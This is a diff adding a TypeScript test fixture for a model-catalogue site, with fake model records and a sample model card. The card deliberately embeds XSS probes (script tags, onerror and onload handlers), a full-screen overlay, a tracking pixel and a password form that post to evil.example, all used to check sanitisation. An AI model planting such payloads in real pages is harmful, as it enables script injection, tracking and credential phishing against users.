@@ -1,0 +1,134 @@
+import type { ModelRecord } from "@vitrine/model";
+import type { Repositories } from "@vitrine/sources";
+import type { Store } from "../server/store.ts";
+import { testStore } from "./site.ts";
+
+/** A picture of one pixel. */
+const PIXEL = Buffer.from(
+	"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+	"base64",
+);
+
+/** A card that shows what a card can hold, and tries what it must not do. */
+export const CARD = `---
+license: apache-2.0
+---
+# Parser
+
+[Usage](#usage), [the licence](LICENSE), [elsewhere](https://example.org/), [nothing](missing.md)
+
+![A chart](img/chart.png) ![Tracker](https://evil.example/pixel.gif)
+
+<script>window.harmed = true</script><img src=x onerror="window.harmed = true"><svg onload="window.harmed = true"></svg>
+<div id="main" style="position:fixed;inset:0">Over everything</div>
+<form action="https://evil.example"><input name="password"></form>
+
+## Usage
+
+\`\`\`python
+print("hello")  # </code><script>window.harmed = true</script>
+\`\`\`
+
+| Benchmark | 8B |
+|-----------|---:|
+| MMLU      | 69 |
+`;
+
+const FILES: Readonly<Record<string, string | Buffer>> = {
+	"README.md": CARD,
+	LICENSE: "Do as you like.",
+	"config.json": '{"model_type": "llama", "note": "<b>bold</b>"}',
+	"img/chart.png": PIXEL,
+	"model.safetensors": Buffer.from([0, 1, 2, 255]),
+	"page.html": "<script>alert(1)</script>",
+};
+
+/** A model whose files are all there. */
+export const PARSER: ModelRecord = {
+	id: "acme/parser",
+	tags: ["transformers", "conversational", "base_model:finetune:acme/base"],
+	pipeline_tag: "text-generation",
+	library_name: "transformers",
+	downloads: 4321,
+	likes: 12,
+	lastModified: "2026-11-20T00:00:00Z",
+	usedStorage: 9_000,
+	gated: "manual",
+	safetensors: { parameters: { BF16: 1_000_000, F32: 10 }, total: 1_000_010 },
+	config: {
+		model_type: "llama",
+		architectures: ["LlamaForCausalLM"],
+		tokenizer_config: { chat_template: "{{ messages }}" },
+	},
+	transformersInfo: { auto_model: "AutoModelForCausalLM", processor: "AutoTokenizer" },
+	cardData: {
+		license: "apache-2.0",
+		language: ["en", "de", "fr", "zh"],
+		base_model: "acme/base",
+		"model-index": [
+			{
+				results: [
+					{
+						task: { name: "Text Generation" },
+						dataset: { name: "MMLU", split: "test" },
+						metrics: [{ type: "acc", value: 0.694_321_9 }, { value: "n/a", name: "other" }, { nothing: 1 }],
+					},
+				],
+			},
+			"not a result",
+		],
+	},
+};
+
+/** A chat model that two providers say they serve. */
+export const SERVED: ModelRecord = {
+	id: "acme/served",
+	tags: ["transformers", "conversational"],
+	pipeline_tag: "text-generation",
+	library_name: "transformers",
+	downloads: 99,
+	inferenceProviderMapping: {
+		together: { providerId: "acme/served-turbo", status: "live", task: "conversational" },
+		cohere: { providerId: "served", status: "error", task: "conversational" },
+		"fireworks-ai": { providerId: "accounts/acme/served", status: "live", task: "conversational" },
+	},
+};
+
+/** Other models, so that lists have pages. */
+const CROWD: readonly ModelRecord[] = Array.from({ length: 45 }, (_, at) => ({
+	id: `crowd/model-${String(at).padStart(2, "0")}`,
+	tags: ["timm", "license:mit", at % 2 === 0 ? "en" : "de"],
+	pipeline_tag: "image-classification",
+	library_name: "timm",
+	downloads: 1000 - at,
+	likes: at,
+	lastModified: `2026-0${(at % 9) + 1}-01T00:00:00Z`,
+}));
+
+export const SHELF: readonly ModelRecord[] = [
+	PARSER,
+	SERVED,
+	...CROWD,
+	{ id: "acme/speech", tags: [], pipeline_tag: "automatic-speech-recognition", library_name: "speechbrain" },
+	{ id: "acme/old", tags: [], pipeline_tag: "text2text-generation", library_name: "no-such-library" },
+	{ id: "acme/quiet", tags: [] },
+	{ id: "acme/hidden", tags: [], pipeline_tag: "table-to-text" },
+	{ id: "acme/depth", tags: ["transformers"], pipeline_tag: "depth-estimation", library_name: "transformers" },
+];
+
+/** A store in memory with models to look at closely; the files of one of them are there. */
+export async function shelf(models: readonly ModelRecord[] = SHELF): Promise<Store> {
+	const store = await testStore(models);
+	return { ...store, repositories: ({ record }) => (record.id === PARSER.id ? repositories : undefined) };
+}
+
+const repositories: Repositories = {
+	files: async (id) =>
+		id === PARSER.id
+			? Object.entries(FILES).map(([path, content]) => ({ path, size: Buffer.byteLength(content) }))
+			: undefined,
+	read: async (_id, path, range) => {
+		const content = FILES[path];
+		return content === undefined ? undefined : new Uint8Array(Buffer.from(content).subarray(range?.start, range?.end));
+	},
+};
